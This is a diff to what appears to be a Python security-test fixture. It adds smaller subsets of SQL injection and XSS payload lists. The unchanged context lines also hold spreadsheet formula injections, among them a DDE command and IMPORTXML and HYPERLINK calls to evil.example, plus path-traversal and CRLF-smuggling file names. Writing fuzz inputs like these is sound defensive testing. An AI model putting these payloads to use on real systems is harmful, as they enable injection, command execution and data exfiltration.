@@ -11,6 +11,8 @@ BODIES = (
     " OR (SELECT count(*) FROM range(100000000), range(1000)) > 0 --", "/**/OR/**/1=1#",
 )  # fmt: skip
 SQL = tuple(f"T2-1{closing}{body}" for closing in CLOSINGS for body in BODIES)
+SQL_KINDS = tuple(f"T2-1{CLOSINGS[number % len(CLOSINGS)]}{body}" for number, body in enumerate(BODIES))
+"""Every way to begin another query once, and every way to end the first at least once: for every run. All: slow."""
 
 FORMULAS = (
     "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点击\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
@@ -44,6 +46,8 @@ OTHERS = (
 )  # fmt: skip
 XSS = tuple(frame.format(script) for frame in FRAMES for script in SCRIPTS) + OTHERS
 """268 ways to have a script run, or something fetched, where the words of people are shown; each calls xss or names it."""
+XSS_KINDS = tuple(FRAMES[number % len(FRAMES)].format(script) for number, script in enumerate(SCRIPTS)) + OTHERS
+"""Every script once and every frame at least once, and all others: for every run. The whole product: slow."""
 
 FILE_NAMES = (
     "../../../etc/cron.d/x.csv", "..\\..\\windows\\x.csv", "C:\\windows\\x.csv", "/etc/passwd", "a\x00b.csv", "a\r\nb: c.csv", "=1+1.csv",
